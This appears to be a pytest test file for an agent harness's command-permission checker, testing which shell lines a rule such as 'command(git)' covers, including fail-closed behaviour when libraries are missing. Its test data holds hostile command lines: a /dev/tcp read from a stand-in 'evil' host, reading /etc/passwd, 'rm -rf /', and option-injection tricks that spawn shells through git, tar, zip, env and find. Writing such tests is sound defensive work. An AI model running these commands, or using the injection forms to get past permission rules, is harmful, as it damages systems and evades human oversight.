"""Which lines one rule covers, beyond what was measured."""

from __future__ import annotations

import importlib
import sys
from collections.abc import Iterator

import pytest

from harness.core.permissions import commandline, covers, decide, judge, matching, regexes
from harness.core.permissions.levels import Level


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("command(git)", "git log\n  | git shortlog"),
        ("command(git)", "for i in a b; do git log $i; done"),
        ("command(git)", "if git status; then git log; fi"),
        ("command(git)", "(git status; git log) 2>&1"),
        ("command(git)", "X=1 git status && export Y=2 && [ -f a ] && test -f b"),
        ("command(git)", "time -p timeout -k 3 --foreground 10 nice -n 5 git status"),
        ("command(git)", "env -i -u HOME A=1 nohup git status"),
        ("command(timeout 5 git log)", "git log --oneline"),
        ("command(git commit)", "git 'commit' -m \"a; b\""),
        ("command(echo a b)", "echo a\\\n b"),
        ("command(cat)", "cat <<E\nhello\nE"),
        ("command(cat)", "cat <<'E'\n$(id)\nE"),
        ("command(git log > out)", "git log > elsewhere"),
        ("command(git status && rm x)", "  git status && rm x "),
        ("command(regex:(?i)git status)", "git status -s"),
        ("command(regex:(git|ls) x)", "A=1 ls x y"),
        ("command(regex:a)|(?:.*)", "rm -rf /"),
        ("command(env)", "env"),
        ("command(*)", "anything $(at all)"),
        ("command(find)", "find . -name x"),
        ("command(unset)", "unset X"),
        ("command(git)", "git -C x -c a=b log"),
        ("command(git status)", "git status |"),
        ("command(regex:[[:alpha:]]+)", "ls -la"),
        (r"command(regex:\Qa.b\E( x)?)", "a.b x"),
        (r"command(regex:\pL+( \z)?)", "abc"),
    ],
)
def test_covered(rule: str, line: str) -> None:
    """Prefixes of words cover each part of a line; what is compared whole must be equal."""
    assert covers(rule, line)


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("command(git)", "git status; ls"),
        ("command(git)", "sudo git status"),
        ("command(git)", "command git status"),
        ("command(git)", "'git' status"),
        ("command(git)", "\\git status"),
        ("command(git)", 'g"it" status'),
        ("command(git)", "$GIT status"),
        ("command(git)", "/usr/bin/git status"),
        ("command(git)", "git log $(id)"),
        ("command(git)", "git log `id`"),
        ("command(git)", "git log {a,b}"),
        ("command(git)", "git log {1..3}"),
        ("command(git)", "git log $((1+1))"),
        ("command(git)", "((x++)); git log"),
        ("command(git)", "f() { git log; }; f"),
        ("command(git)", "git log >(cat)"),
        ("command(cat)", "cat <<E\n$(id)\nE"),
        ("command(cat)", "cat </dev/tcp/evil/80"),
        ("command(git)", "git fetch --upload-pack=sh"),
        ("command(git)", "git --exec-path=/x status"),
        ("command(tar)", "tar -I sh -xf a"),
        ("command(tar)", "tar --checkpoint-action=exec=sh -cf a b"),
        ("command(zip)", "zip a b -TT sh"),
        ("command(env)", "env -S 'sh -c id'"),
        ("command(find)", "find . -ok rm {} ;"),
        ("command(find)", "find . -fprint /x"),
        ("command(git)", "A=1"),
        ("command(git)", "# git status"),
        ("command(git)", ""),
        ("command()", "git"),
        ("command(export)", "export A=1; ls"),
        ("command(git && ls)", "git && ls -la"),
        ("command(regex:git|ls)", "ls -la"),
        ("command(regex:[^;]*)", "a; b"),
        ("command(regex:(?=x)y)", "y"),
        ("command(GIT)", "git"),
        ("read_file(/)", "cat /etc/passwd"),
        ("unsandboxed(git)", "git status"),
        ("git", "git status"),
        ("command(git)\n", "git status"),
        ("command(git\nls)", "git"),
    ],
)
def test_not_covered(rule: str, line: str) -> None:
    """Other programs, wrappers that stay, and forms that force the whole line are not covered."""
    assert not covers(rule, line)


@pytest.mark.parametrize("shell", ["pwsh", "cmd"])
def test_whole_lines_only(shell: str) -> None:
    """Under PowerShell and cmd a rule is one line; only `*` and patterns cover more."""
    assert covers("command(git status)", "git status", shell=shell)
    assert not covers("command(git)", "git status", shell=shell)
    assert covers("command(regex:git .*)", "git status; rm x", shell=shell)
    assert covers("command(*)", "Get-ChildItem", shell=shell)


@pytest.mark.parametrize("target", ["", "()", "time", "# x", "A=1", "export", "regex:", "nohup"])
def test_targets_without_words(target: str) -> None:
    """They covered every command before 1.1.11, and nothing since."""
    assert covers(f"command({target})", "rm -rf /", version="1.1.10")
    assert not covers(f"command({target})", "rm -rf /", version="1.1.11")


def test_words_were_patterns_once() -> None:
    """Before 1.0.13 the words of a plain target were patterns."""
    assert covers("command(git (status|log))", "git log -1", version="1.0.12")
    assert not covers("command(git (status|log))", "git log -1", version="1.0.13")


def test_what_cannot_be_judged_counts_as_covered() -> None:
    """A version that is none, a line or pattern that is too large: never claimed to be safe."""
    assert covers("command(time)", "rm -rf /", version="nightly")
    assert covers("command(git)", "rm " + "x" * 20_000)
    assert covers("command(regex:" + "a" * 3000 + ")", "rm x")
    assert covers("command(regex:" + ".{1000}" * 50 + ")", "rm x")
    assert covers("command(" + "x " * 3000 + ")", "rm x")
    assert covers("command( * )", "rm x")


@pytest.mark.parametrize(
    "line",
    ["\xad\xb7\x1f\x98b{\U000b6891Q", "{\U0010ffff}", "a{1..\U000e0000}", "é{ü,ö}", "ls é > ü"],
)
def test_signs_outside_ascii_reach_no_table_of_the_parser(line: str) -> None:
    """Such signs once ended the process; they are parts of words and keep their text."""
    assert not covers("command(git)", line)
    assert covers(f"command({line})", line)
    assert covers("command(echo é)", "echo é ü | echo 'é'")


@pytest.fixture
def without(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """Take a library away, with everything that was remembered of it, and give it back."""
    caches = [
        commandline._parser,
        commandline.parse_line,
        regexes._library,
        regexes.compile_pattern,
        matching.read_target,
        importlib.import_module("harness.core.permissions.probes")._corpus,
        importlib.import_module("harness.core.permissions.probes")._programs,
    ]
    monkeypatch.setitem(sys.modules, request.param, None)
    for cache in caches:
        cache.cache_clear()
    yield request.param
    for cache in caches:
        cache.cache_clear()


@pytest.mark.parametrize("without", ["re2", "tree_sitter_bash"], indirect=True)
def test_a_missing_library_fails_closed(without: str) -> None:
    """Without a library nothing is called safe: covered, allowed, and the verdict says why."""
    rule = "command(regex:ls)" if without == "re2" else "command(ls)"
    assert covers(rule, "rm x")
    assert decide({"allow": [rule]}, "command(rm x)", workspace="/w", home="/h") == "ALLOW"
    assert (
        decide({"allow": [rule], "deny": [rule]}, "command(rm x)", workspace="/w", home="/h")
        == "ALLOW"
    )
    assert decide({"deny": ["command(*)"]}, "command(rm x)", workspace="/w", home="/h") == "DENY"
    judged = judge(rule, workspace="/w", home="/h")
    assert judged.level is Level.UNKNOWN
    assert "installed" in judged.why
    assert judge("command(*)", workspace="/w", home="/h").level is Level.CRITICAL
